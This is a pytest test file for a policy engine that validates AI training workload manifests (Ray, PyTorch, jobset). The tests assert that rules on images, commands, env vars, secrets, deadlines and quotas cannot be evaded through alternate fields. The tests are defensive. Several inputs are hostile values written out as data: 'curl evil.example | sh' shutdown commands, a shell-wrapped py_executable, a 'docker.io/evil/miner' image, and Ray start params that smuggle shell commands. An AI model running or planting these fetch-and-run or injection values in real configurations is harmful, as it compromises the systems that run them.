"""Issue 20, compile time: one value, every spelling. Each section is one way a value reached the
program past a rule on main before the issue; each test tries it and asserts the policy holds."""

from __future__ import annotations

import pytest
from policy_support import WORKLOAD, policy, run, with_spec

# ---------------------------------------------------------------------------------------------
# step: exact, in the decimals as written


@pytest.mark.parametrize(
    ("cpus", "step", "expected"),
    [
        ("1000000000.5", "1", ["E403"]),  # math.isclose (rel_tol 1e-9) let it pass
        ("1000000000001", "2", ["E403"]),
        ("0.3", "0.1", []),  # 3 x 0.1 is 0.3 as written, though not in binary floats
        ("0.30000001", "0.1", ["E403"]),
        ("64", "0.5", []),
    ],
)
def test_step_is_exact(cpus, step, expected):
    workload = WORKLOAD.replace("cpus: 8", f"cpus: {cpus}")
    outcome = run(
        workload, policies=[policy(rules=f"spec.types.*.resources.cpus: {{step: {step}}}")]
    )
    assert [c for c in outcome.codes if c == "E403"] == expected, outcome.lines


# ---------------------------------------------------------------------------------------------
# pattern: RE2, as the API server's CEL matches()


def test_a_dollar_does_not_accept_a_trailing_newline():
    rule = "spec.image: {pattern: '^registry\\.example\\.com/team-a/trainer:1\\.0$'}"
    workload = WORKLOAD.replace(
        "image: registry.example.com/team-a/trainer:1.0",
        'image: "registry.example.com/team-a/trainer:1.0\\n"',
    )
    assert "E405" in run(workload, policies=[policy(rules=rule)]).codes


def test_a_hostile_value_on_a_backtracking_pattern_is_fast():
    rule = "spec.env.X: {pattern: '^(a+)+$'}"
    # Python's re backtracks: 28 characters took 20 s, each one more doubles it; RE2 is linear
    workload = with_spec("env: {X: " + "a" * 40 + "b}")
    outcome = run(workload, policies=[policy(rules=rule)])
    assert "E405" in outcome.codes, outcome.lines


@pytest.mark.parametrize("pattern", ["^(?!evil)", "(a", "a\\\\Z", "(a)\\\\1"])
def test_a_pattern_re2_cannot_read_is_a_policy_diagnostic(pattern):
    outcome = run(WORKLOAD, policies=[policy(rules=f'spec.image: {{pattern: "{pattern}"}}')])
    problem = outcome.only("E413")
    assert "policy-0.yaml" in str(problem.location.file), outcome.lines
    assert "RE2" in problem.message


# ---------------------------------------------------------------------------------------------
# compile queues: an amount beyond any quantity


@pytest.mark.parametrize(
    "quota",
    [
        "{cpus: 8, memoryGB: 1e308}",
        "{cpus: 1e308, memoryGB: 8}",
        "{cpus: 8, memoryGB: 8, gpus: {H100: 1e308}}",
        "{cpus: 8, memoryGB: 8, cohort: c, borrowingLimit: {memoryGB: 1e300}}",
    ],
)
def test_a_quota_beyond_any_quantity_is_a_diagnostic(tmp_path, quota):
    from example_support import run_cli

    (tmp_path / "p.yaml").write_text(policy() + f"  quota: {quota}\n")
    result = run_cli("queues", "-p", "p.yaml", cwd=tmp_path)
    assert result.exit_code == 1, result.stdout + result.stderr
    assert "E509" in result.stderr and "Traceback" not in result.stdout + result.stderr, (
        result.stdout + result.stderr
    )


# ---------------------------------------------------------------------------------------------
# the project's policies: its queue, its namespace, a workload without a project

QUOTA = policy(name="team-a-quota") + "  quota: {cpus: 64, memoryGB: 256}\n"


@pytest.mark.parametrize(
    ("workload", "sets"),
    [
        (with_spec("queue: ~"), ()),
        (WORKLOAD, ("spec.queue=~",)),
    ],
)
def test_dropping_the_queue_of_a_project_with_a_quota_is_an_error(workload, sets):
    outcome = run(workload, policies=[QUOTA], sets=sets)
    assert "E340" in outcome.codes, outcome.lines


def test_the_project_queue_by_default_is_fine():
    assert run(WORKLOAD, policies=[QUOTA]).codes == []


def test_another_projects_namespace_is_held_by_that_projects_rules_too():
    team_b = policy(rules="spec.timeout: {required: true}", name="team-b", project="team-b")
    outcome = run(WORKLOAD, namespace="team-b", policies=[team_b])
    assert outcome.codes == ["E406"], outcome.lines
    image = policy(
        rules="spec.image: {pattern: '^registry\\.example\\.com/team-b/'}",
        name="team-b",
        project="team-b",
    )
    assert run(WORKLOAD, namespace="team-b", policies=[image]).codes == ["E405"]
    limits = policy(limits="{pods: 1}", name="team-b", project="team-b")
    assert run(WORKLOAD, namespace="team-b", policies=[limits]).codes == ["E411"]


def test_a_namespace_no_policy_names_is_left_alone():
    team_b = policy(rules="spec.timeout: {required: true}", name="team-b", project="team-b")
    assert run(WORKLOAD, namespace="scratch", policies=[team_b]).codes == []


def test_a_workload_without_a_project_where_project_policies_exist_is_told_so():
    workload = WORKLOAD.replace("project: team-a\n", "")
    outcome = run(workload, policies=[policy(rules="spec.timeout: {required: true}")])
    assert outcome.codes == [], outcome.lines
    told = outcome.only("W140")
    assert "only the global policies apply" in told.message
    assert str(told.location) == "workload.yaml:3:1"  # in the workload, at the name it gave
    # sent to the project's namespace: its policies apply
    held = run(
        workload, namespace="team-a", policies=[policy(rules="spec.timeout: {required: true}")]
    )
    assert held.codes == ["E406"], held.lines
    assert not [d for d in held.diagnostics if d.code == "W140"]
    # global policies alone: nothing to step out of
    alone = run(workload, policies=[policy(rules="spec.image: {required: true}", project=None)])
    assert alone.diagnostics == []


# ---------------------------------------------------------------------------------------------
# Multus networks only through rdma


@pytest.mark.parametrize("key", ["k8s.v1.cni.cncf.io/networks", "v1.multus-cni.io/default-network"])
def test_a_multus_annotation_is_a_second_spelling_of_rdma(key):
    outcome = run(with_spec(f'annotations: {{"{key}": "default/hostnet"}}'))
    assert outcome.codes == ["E210"], outcome.lines
    assert "resources.rdma" in outcome.only("E210").message


# ---------------------------------------------------------------------------------------------
# duplicate labels in itemized lists

RAY = """\
kind: AIchorManifest
apiVersion: 0.2.3
name: train
project: team-a
spec:
  operator: kuberay
  image: registry.example.com/team-a/trainer:1.0
  command: python train.py
  types:
    Head: {resources: {cpus: 1, memory: 4}}
    Workers:
      - {name: g, count: 1, resources: {cpus: 1, memory: 4}}
      - {name: g, count: 2, resources: {cpus: 1, memory: 4}}
"""


def test_two_worker_groups_with_one_name_are_an_error():
    outcome = run(RAY)
    assert outcome.codes == ["E342"], outcome.lines
    assert outcome.only("E342").location.line == 13


@pytest.mark.parametrize(
    "tolerations",
    [
        "[{key: a, operator: Exists}, {key: a, operator: Equal, value: x}]",
        "[{key: gpu, operator: Exists}, {key: b, operator: Exists}, {key: gpu, operator: Exists}]",
    ],
)
def test_two_tolerations_with_one_key_are_an_error(tolerations):
    workload = WORKLOAD.replace(
        "        memory: 32\n", f"        memory: 32\n        extraTolerations: {tolerations}\n"
    )
    assert run(workload).codes == ["E342"]


def test_two_pvcs_with_one_name_are_an_error():
    workload = with_spec(
        "storage: {attachExistingPVCs: [{name: d, mountPoint: /a}, {name: d, mountPoint: /b}]}"
    )
    assert run(workload).codes == ["E342"]


# ---------------------------------------------------------------------------------------------
# env: every way a variable reaches the program

RAY_ONE = RAY.replace("      - {name: g, count: 2, resources: {cpus: 1, memory: 4}}\n", "")


@pytest.mark.parametrize(
    "rule",
    [
        "spec.env.MODE: {options: [safe]}",
        "spec.env.MODE: {pattern: '^safe$'}",
        "spec.env.*: {pattern: '^[a-z]+$'}",
    ],
)
def test_a_value_rule_is_not_met_by_a_secret_reference(rule):
    workload = with_spec("env: {MODE: {secret: prod, key: mode}}")
    outcome = run(workload, policies=[policy(rules=rule)])
    assert outcome.codes == ["E414"], outcome.lines
    assert run(with_spec("env: {MODE: safe}"), policies=[policy(rules=rule)]).codes == []


@pytest.mark.parametrize(
    ("rule", "code"),
    [
        ("spec.env.MODE: {options: [safe]}", "E404"),
        ("spec.env.*: {pattern: '^[a-z]+$'}", "E405"),
        ("spec.env.MODE: {forbidden: true}", "E408"),
        ("spec.env.MODE: {canEdit: false}", "E407"),
        ("spec.env: {canAdd: false}", "E409"),
    ],
)
def test_env_rules_bind_ray_runtime_env_vars(rule, code):
    workload = with_spec("runtimeEnv: {env_vars: {MODE: UNSAFE}}", RAY_ONE)
    defaults = "spec: {env: {OTHER: x}}" if "canAdd" in rule else "spec: {env: {MODE: safe}}"
    outcome = run(workload, policies=[policy(rules=rule, defaults=defaults)])
    assert outcome.codes == [code], outcome.lines
    assert "runtimeEnv.env_vars" in outcome.only(code).message
    assert outcome.only(code).location.line == 13


@pytest.mark.parametrize(
    "rule",
    [
        "spec.secrets: {itemRules: {secretName: {options: [team-a-token]}}}",
        "spec.secrets.*.secretName: {pattern: '^team-a-'}",
        "spec.secrets: {canAdd: false}",
        "spec.secrets: {forbidden: true}",
    ],
)
def test_secret_rules_bind_the_secrets_env_references_read(rule):
    workload = with_spec("env: {PASSWORD: {secret: prod-db, key: password}}")
    outcome = run(workload, policies=[policy(rules=rule)])
    assert len(outcome.codes) == 1 and outcome.codes[0] in ("E404", "E405", "E408", "E409")
    allowed = with_spec("env: {TOKEN: {secret: team-a-token, key: t}}")
    defaults = "spec: {secrets: {token: {secretName: team-a-token, mountPath: /t}}}"
    if "forbidden" not in rule:
        assert run(allowed, policies=[policy(rules=rule, defaults=defaults)]).codes == []


# ---------------------------------------------------------------------------------------------
# commands and images: every field that runs as one


@pytest.mark.parametrize(
    ("rule", "code"),
    [
        ("spec.command: {canEdit: false}", "E407"),
        ("spec.command: {pattern: '^python train\\.py$'}", "E405"),
        ("spec.command: {options: [python train.py]}", "E404"),
    ],
)
def test_command_rules_bind_the_shutdown_command(rule, code):
    workload = with_spec("gracefulTermination: {shutdownCommand: curl evil.example | sh}")
    outcome = run(
        workload, policies=[policy(rules=rule, defaults="spec: {command: python train.py}")]
    )
    assert outcome.codes == [code], outcome.lines
    assert "shutdownCommand" in outcome.only(code).message


def test_command_rules_bind_rays_python_executable():
    workload = with_spec("runtimeEnv: {py_executable: 'sh -c \"curl evil | sh\" #'}", RAY_ONE)
    outcome = run(workload, policies=[policy(rules="spec.command: {pattern: '^python '}")])
    assert outcome.codes == ["E405"], outcome.lines


@pytest.mark.parametrize(
    "runtime_env",
    ["{image_uri: docker.io/evil/miner:1}", "{container: {image: docker.io/evil/miner:1}}"],
)
def test_image_rules_bind_rays_runtime_images(runtime_env):
    workload = with_spec(f"runtimeEnv: {runtime_env}", RAY_ONE)
    rule = "spec.image: {pattern: '^registry\\.example\\.com/team-a/'}"
    outcome = run(workload, policies=[policy(rules=rule)])
    assert outcome.codes == ["E405"], outcome.lines


@pytest.mark.parametrize(
    "params",
    [
        "{num-cpus: '0; curl evil.example | sh'}",
        "{num-cpus: '$(curl evil.example)'}",
        "{num-cpus: '`id`'}",
        "{'x;id': '1'}",
        '{num-cpus: "1\\nid"}',
    ],
)
def test_ray_start_params_with_shell_syntax_are_refused(params):
    head = RAY_ONE.replace(
        "Head: {resources: {cpus: 1, memory: 4}}",
        f"Head: {{resources: {{cpus: 1, memory: 4}}, rayStartParams: {params}}}",
    )
    assert run(head).codes == ["E343"], run(head).lines
    worker = RAY_ONE.replace(
        "{name: g, count: 1, resources: {cpus: 1, memory: 4}}",
        f"{{name: g, count: 1, resources: {{cpus: 1, memory: 4}}, rayStartParams: {params}}}",
    )
    assert run(worker).codes == ["E343"]


def test_plain_ray_start_params_and_json_resources_pass():
    params = (
        """{num-cpus: '0', resources: '"{\\"Custom\\": 1}"', object-store-memory: '100000000'}"""
    )
    head = RAY_ONE.replace(
        "Head: {resources: {cpus: 1, memory: 4}}",
        f"Head: {{resources: {{cpus: 1, memory: 4}}, rayStartParams: {params}}}",
    )
    assert run(head).codes == [], run(head).lines


# ---------------------------------------------------------------------------------------------
# deadlines and memory: canEdit and forbidden carry across the two spellings


@pytest.mark.parametrize(
    ("rule", "defaults", "extra", "code"),
    [
        (
            "spec.activeDeadlineSeconds: {canEdit: false}",
            "spec: {activeDeadlineSeconds: 3600}",
            "timeout: 30d",
            "E407",
        ),
        ("spec.activeDeadlineSeconds: {forbidden: true}", "", "timeout: 30d", "E408"),
        ("spec.timeout: {canEdit: false}", "", "activeDeadlineSeconds: 9999999", "E407"),
        ("spec.timeout: {forbidden: true}", "", "activeDeadlineSeconds: 9999999", "E408"),
    ],
)
def test_deadline_rules_carry_across_spellings(rule, defaults, extra, code):
    outcome = run(with_spec(extra), policies=[policy(rules=rule, defaults=defaults)])
    assert outcome.codes == [code], outcome.lines


def test_a_locked_deadline_given_the_same_in_the_other_spelling_passes():
    rule = "spec.activeDeadlineSeconds: {canEdit: false}"
    defaults = "spec: {activeDeadlineSeconds: 3600}"
    assert (
        run(with_spec("timeout: 1h"), policies=[policy(rules=rule, defaults=defaults)]).codes == []
    )


@pytest.mark.parametrize(
    ("rule", "code"),
    [
        ("spec.types.*.resources.memory: {canEdit: false}", "E407"),
        ("spec.types.*.resources.memory: {forbidden: true}", "E408"),
    ],
)
def test_memory_rules_carry_across_ram_ratio(rule, code):
    workload = WORKLOAD.replace("memory: 32", "memory: ~\n        ramRatio: 100")
    defaults = "spec: {types: {'*': {resources: {memory: 32}}}}" if "canEdit" in rule else ""
    outcome = run(workload, policies=[policy(rules=rule, defaults=defaults)])
    assert code in outcome.codes, outcome.lines


# ---------------------------------------------------------------------------------------------
# a deadline's maximum bounds the run: attempts and grace periods

PYTORCH = WORKLOAD.replace("operator: jobset", "operator: pytorch")


@pytest.mark.parametrize(
    ("workload", "extra", "expected"),
    [
        (PYTORCH, "restartPolicy: {backoffLimit: 3}", ["E415"]),  # 4 fresh deadlines
        (WORKLOAD, "restartPolicy: {backoffLimit: 3, scope: workload}", ["E415"]),
        (WORKLOAD, "restartPolicy: {backoffLimit: 3}", []),  # the pod scope: one Job deadline
        (PYTORCH, "restartPolicy: {backoffLimit: 0}", []),
        (WORKLOAD, "gracefulTermination: {terminationGracePeriodSeconds: 100000}", ["E415"]),
        (WORKLOAD, "gracefulTermination: {terminationGracePeriodSeconds: 30}", []),
        (RAY_ONE, "restartPolicy: {backoffLimit: 1}", ["E415"]),
    ],
)
def test_a_deadline_maximum_bounds_retries_and_grace(workload, extra, expected):
    rule = "spec.timeout: {max: 1d, required: true}"
    outcome = run(with_spec("timeout: 1d\n" + extra, workload), policies=[policy(rules=rule)])
    assert outcome.codes == expected, outcome.lines


def test_a_shorter_deadline_leaves_room_for_retries():
    rule = "spec.activeDeadlineSeconds: {max: 1d}"
    extra = "timeout: 6h\nrestartPolicy: {backoffLimit: 3}"
    assert run(with_spec(extra, PYTORCH), policies=[policy(rules=rule)]).codes == []


# ---------------------------------------------------------------------------------------------
# KubeRay's default submitter pod is a pod


def test_the_default_ray_submitter_counts_in_the_pod_limit():
    # head + one worker + KubeRay's submitter (no serviceAccountName: it is not written out)
    outcome = run(RAY_ONE, policies=[policy(limits="{pods: 2}")])
    assert outcome.codes == ["E411"], outcome.lines
    assert "submitter: 1 pod" in outcome.only("E411").message
    assert run(RAY_ONE, policies=[policy(limits="{pods: 3}")]).codes == []


def test_the_default_ray_submitter_counts_in_the_cpu_limit():
    outcome = run(RAY_ONE, policies=[policy(limits="{cpus: 2}")])
    assert outcome.codes == ["E411"], outcome.lines
    assert run(RAY_ONE, policies=[policy(limits="{cpus: 2.5}")]).codes == []
